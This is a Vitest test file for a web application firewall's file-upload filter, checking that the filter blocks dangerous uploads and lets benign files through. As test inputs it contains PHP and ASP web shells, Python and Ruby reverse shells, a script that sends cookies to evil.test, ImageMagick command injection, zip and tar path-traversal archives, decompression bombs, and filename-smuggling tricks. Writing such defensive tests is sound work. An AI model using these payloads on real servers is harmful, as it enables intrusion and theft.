import { describe, expect, test } from 'vitest';
import { compilePolicy, inspect } from '../../inspect/index.ts';
import { choices, post, request } from '../../testing/requests.ts';

const policy = compilePolicy({ securityLevel: 'medium', categories: choices('medium', ['file_upload']) });

function upload(disposition: string, content: string, type = 'application/octet-stream') {
  const part = `--b\r\nContent-Disposition: form-data; name="f"; ${disposition}\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--b--\r\n`;
  return inspect(policy, post('multipart/form-data; boundary=b', part)).decision;
}

const png = '\x89PNG\r\n\x1a\n\0\0\0\rIHDR';

describe('file_upload', () => {
  test.each([
    'shell.php',
    'a.phtml',
    'a.pHp5',
    'x.jsp',
    'x.aspx',
    'x.php.jpg',
    'x.jpg.php',
    'x.php\0.jpg',
    'x.php%00.jpg',
    'x.asp;.jpg',
    '.htaccess',
    'web.config',
    'x.php.',
    'x.php ',
    'x.php::$DATA',
    'a.cgi',
    'a.exe',
    'a.hta',
    '../x.php',
    'my.com.php.jpg',
    'holiday photo.php.jpg',
    'x.php .jpg',
    'shop.com.pl.jpg',
    'x.com',
  ])('blocks the name %j', (name) => {
    expect(upload(`filename="${name}"`, 'hello')).toBe('block');
  });

  test.each([
    'photo.jpg',
    'report.final.pdf',
    'notes.txt',
    'data.csv',
    'archive.zip',
    'my.config.json',
    'php-logo.png',
    'index.html',
    'a.docx',
    '照片.png',
    'v1.2.3.tar.gz',
    'includes.txt',
    'Invoice amazon.com.pdf',
    'Anna (anna@example.com.ar).docx',
    'Notes on build.sh for Anna.pdf',
    'index.php (old version).txt',
    'x.py.txt',
    'deploy.sh.txt',
  ])('passes the name %s', (name) => {
    expect(upload(`filename="${Buffer.from(name).toString('latin1')}"`, 'hello')).toBe('pass');
  });

  test.each([
    ['PHP behind an image header', `GIF89a<?php system($_GET[1]);`, 'image/gif'],
    ['PHP in a text', '<?php echo 1;', 'text/plain'],
    ['a JSP page', '<%@ page import="java.io.*" %>', 'text/plain'],
    ['an ASP eval', '<%eval request("x")%>', 'image/jpeg'],
    ['a program declared as an image', 'MZ\x90\0\x03', 'image/png'],
    ['markup declared as an image', '<html><body>', 'image/jpeg'],
    ['script in an SVG', '<svg xmlns="x"><script>1</script></svg>', 'image/svg+xml'],
    ['settings of Apache', 'AddType application/x-httpd-php .jpg', 'text/plain'],
    [
      'drawing commands that run programs',
      'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://x"|id")\'\npop graphic-context',
      'image/png',
    ],
    ['an archive that climbs', `PK\x03\x04${'\0'.repeat(22)}\x09\0\0\0../../etc`, 'application/zip'],
  ])('blocks %s', (_what, content, type) => {
    expect(upload('filename="a.dat"', content, type)).toBe('block');
  });

  const script = '<script>fetch("//evil.test/?"+document.cookie)</script>';
  const handler = '<svg onload="alert(1)"/>';
  test.each([
    ['a page by its name', 'notes.html', `hello ${script}`, 'text/plain'],
    ['a page by its type', 'notes.txt', `hello ${script}`, 'application/xhtml+xml'],
    ['a page by how it begins', 'notes', `<!doctype html>${script}`, 'application/octet-stream'],
    ['a page in an archive of mails', 'notes.mht', `MIME-Version: 1.0\n\n${script}`, 'message/rfc822'],
    ['an image behind a long comment', 'logo.svg', `<!--${'-'.repeat(2000)}-->${handler}`, 'image/svg+xml'],
    ['an image in UTF-16', 'logo.svg', wide(handler), 'image/svg+xml'],
  ])('blocks script in %s', (_what, name, content, type) => {
    expect(upload(`filename="${name}"`, content, type)).toBe('block');
  });

  // Nobody runs these as they are; operators store dumps, logs and tables.
  test.each(['notes.txt', 'dump.sql', 'table.csv', 'thread.md'])(
    'passes what somebody wrote about an attack in %s',
    (name) => {
      expect(
        upload(`filename="${name}"`, `1' UNION SELECT password FROM users-- ${script}`, 'text/plain'),
      ).toBe('pass');
    },
  );

  test.each([
    ['an image', png, 'image/png'],
    ['a page', '<!doctype html><title>x</title>', 'text/html'],
    ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', 'image/svg+xml'],
    ['prose', 'how to use php and <b>html</b>', 'text/plain'],
    ['nothing', '', 'image/png'],
  ])('passes %s', (_what, content, type) => {
    expect(upload('filename="a.dat"', content, type)).toBe('pass');
  });

  test.each([
    ['homework.py', 'import sys\nprint(sum(int(x) for x in open(sys.argv[1])))'],
    ['deploy.py', "import subprocess\nsubprocess.run(['ls', '-l'])"],
    [
      'client.py',
      'import socket\ns = socket.create_connection(("example.com", 80))\ns.sendall(b"GET / HTTP/1.0")',
    ],
    ['model.rb', 'class User < ApplicationRecord\n  def exec(name) = where(name:)\nend'],
  ])('passes the text of a program that waits for nobody: %s', (name, content) => {
    expect(upload(`filename="${name}"`, content)).toBe('pass');
  });

  test.each([
    ['x.py', 'import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")'],
    [
      'x.py',
      'import os,cgi\nform=cgi.FieldStorage()\nprint("Content-type: text/html")\nos.system(form["c"].value)',
    ],
    ['app.py', 'import os\n@app.route("/c")\ndef c(): return os.popen(request.args.get("c")).read()'],
    ['x.rb', 'require "socket";f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)'],
    ['x.py;.jpg', 'print(1)'],
    ['x.py.png', 'print(1)'],
    ['x.pl', 'print 1'],
  ])('blocks a program that runs what it is told, or hides its name: %s', (name, content) => {
    expect(upload(`filename="${name}"`, content)).toBe('block');
  });

  test.each([
    ['x.sh.txt', '#!/bin/sh\nid'],
    ['x.py.txt', 'import os\nprint(os.popen(request.args["c"]).read())'],
    ['x.py.txt', 'import cgi,os\nform = cgi.FieldStorage()\nos.system(form["c"].value)'],
  ])('blocks a script under the name of a text that a server would run all the same: %s', (name, content) => {
    expect(upload(`filename="${name}"`, content)).toBe('block');
  });

  const number = (value: number) =>
    String.fromCharCode(...[0, 8, 16, 24].map((shift) => (value >>> shift) & 255));
  const entry = (packed: number, unpacked: number) =>
    `PK\x01\x02${'\0'.repeat(16)}${number(packed)}${number(unpacked)}\x01\0${'\0'.repeat(16)}a`;
  const number64 = (value: number) => number(value % 2 ** 32) + number(Math.floor(value / 2 ** 32));
  const large = (packed: number, unpacked: number, both = true) => {
    const sizes = number64(unpacked) + (both ? number64(packed) : '');
    const head = `PK\x01\x02${'\0'.repeat(16)}${both ? number(0xff_ff_ff_ff) : number(packed)}${number(0xff_ff_ff_ff)}\x01\0`;
    const extra = `\x55\x54\x01\0z\x01\0${String.fromCharCode(sizes.length)}\0${sizes}`;
    return `${head}${String.fromCharCode(extra.length)}\0${'\0'.repeat(14)}a${extra}`;
  };
  const streamed = `PK\x03\x04\x14\0\x08\0${'\0'.repeat(18)}\x01\0\0\0a`;
  const packed = (unpacked: number) => `\x1f\x8b\x08\0${'x'.repeat(2000)}${number(unpacked)}`;

  test.each([
    ['an archive whose directory tells how it swells', `${streamed}${entry(30_000, 40_000_000)}`],
    ['the second of two that swell', `${entry(10, 20)}${entry(60_000, 61_000_000)}`],
    ['one whose sizes stand in 64 bits', large(40_000, 5_000_000_000)],
    ['one that says in 32 bits what was packed', large(40_000, 5_000_000_000, false)],
  ])('blocks %s', (_what, content) => {
    expect(upload('filename="a.bin"', content)).toBe('block');
  });

  test.each([
    ['an archive of a log', `${streamed}${entry(1_000_000, 50_000_000)}`],
    ['an archive of little', entry(40, 40_000)],
    ['a large archive of films', large(4_900_000_000, 5_000_000_000)],
    ['an archive whose sizes of 64 bits are cut off', large(1, 1).slice(0, -8)],
    ['an archive of a log that repeats itself', entry(40_000, 12_000_000)],
    ['a compressed file, whose last bytes may be of anything', packed(600_000_000)],
  ])('passes %s', (_what, content) => {
    expect(upload('filename="a.bin"', content)).toBe('pass');
  });

  const empty = `PK\x03\x04${'\0'.repeat(26)}`;
  const head = (name: string, size = 0, kind = '0') =>
    `${name.padEnd(124, '\0')}${size.toString(8).padStart(11, '0')}\0${' '.repeat(20)}${kind}${'\0'.repeat(100)}ustar`.padEnd(
      512,
      '\0',
    );
  const block = (text: string) => text.padEnd(512, '\0');
  const inUtf16 = (text: string) => [...text].map((char) => `${char}\0`).join('');

  test.each([
    ['a zip that swells behind many empty entries', empty.repeat(2000) + entry(60_000, 61_000_000)],
    [
      'a zip that climbs behind many empty entries',
      `${empty.repeat(300)}PK\x03\x04${'\0'.repeat(22)}\x06\0\0\0../../`,
    ],
    ['the second file of a tar', head('a.txt', 700) + block('x').repeat(2) + head('../../etc/cron.d/x')],
    ['a long name of GNU tar', head('././@LongLink', 20, 'L') + block('a/../../../root/x')],
    [
      'a long name of POSIX tar',
      head('PaxHeaders/x', 40, 'x') + block('20 mtime=1\n30 path=../../root/.ssh/x\n'),
    ],
    ['a RAR', `Rar!\x1a\x07\x01\0${'x'.repeat(40)}..\\..\\Start Menu\\x.lnk`],
    ['a 7z', `7z\xbc\xaf\x27\x1c\0\x04${inUtf16('../../etc/x')}`],
  ])('blocks an archive that climbs or swells: %s', (_what, content) => {
    expect(upload('filename="a.bin"', content)).toBe('block');
  });

  test.each([
    ['a tar', head('./a/b.txt', 3) + block('abc') + head('a..b/c')],
    [
      'a link of a tar that leads up',
      head('PaxHeaders/x', 40, 'x') + block('30 linkpath=../../lib/x.js\n') + head('x', 0, '2'),
    ],
    ['a tar of a text about climbing', head('a.txt', 9) + block('../../etc')],
    ['a text about climbing', 'Rar files may hold ../../x'],
    ['a tar whose size is no number', `${head('a').slice(0, 124)}zzzzzzzzzzz\0${head('a').slice(136)}`],
    ['a RAR', `Rar!\x1a\x07\x01\0${'x'.repeat(40)}folder\\a..b.txt ..`],
  ])('passes %s', (_what, content) => {
    expect(upload('filename="a.bin"', content)).toBe('pass');
  });

  const moved = (from: string, to: string, method = 'MOVE') =>
    inspect(
      policy,
      request({
        method,
        target: from,
        headers: [
          ['host', 'shop.example.com'],
          ['Destination', to],
        ],
      }),
    ).decision;

  test.each([
    ['/dav/x.txt', '/dav/x.asp;.txt'],
    ['/dav/x.txt', 'https://shop.example.com/dav/x.aspx'],
    ['/dav/x.jpg', '/dav/x.php%00.jpg'],
    ['/dav/x.php', '/dav/x.php.'],
    ['/dav/x', '/dav/x.jsp/'],
  ])('blocks a file that becomes a program by its name: %s to %s', (from, to) => {
    expect([moved(from, to), moved(from, to, 'COPY')]).toEqual(['block', 'block']);
  });

  test.each([
    ['/remote.php/dav/files/a/notes.txt', 'https://x.example/remote.php/dav/files/a/b/notes.txt'],
    ['/dav/index.php', '/dav/site/index.php'],
    ['/dav/a.txt', '/dav/a.py'],
    ['/dav/a.txt', '/dav/phpinfo.txt'],
  ])('passes a file that is moved: %s to %s', (from, to) => {
    expect(moved(from, to)).toBe('pass');
  });

  test('two names for one file are one too many', () => {
    expect(upload('filename="a.jpg"; filename="b.jpg"', png)).toBe('block');
    expect(upload(`filename="a.jpg"; filename*=UTF-8''a.jpg`, png)).toBe('pass');
    expect(upload(`filename="Liste (2024); neu.xlsx"; filename*=UTF-8''Liste.xlsx`, 'PK')).toBe('pass');
    expect(upload(`filename="x.asp;.xlsx"; filename*=UTF-8''Liste.xlsx`, 'PK')).toBe('block');
    expect(upload(`filename="x.asp; .xlsx"; filename*=UTF-8''Liste.xlsx`, 'PK')).toBe('block');
    expect(upload(`filename*=UTF-8''a%2ephp`, 'x')).toBe('block');
  });
});

/** UTF-16 with its mark, as Notepad writes it. */
const wide = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le').toString('latin1');
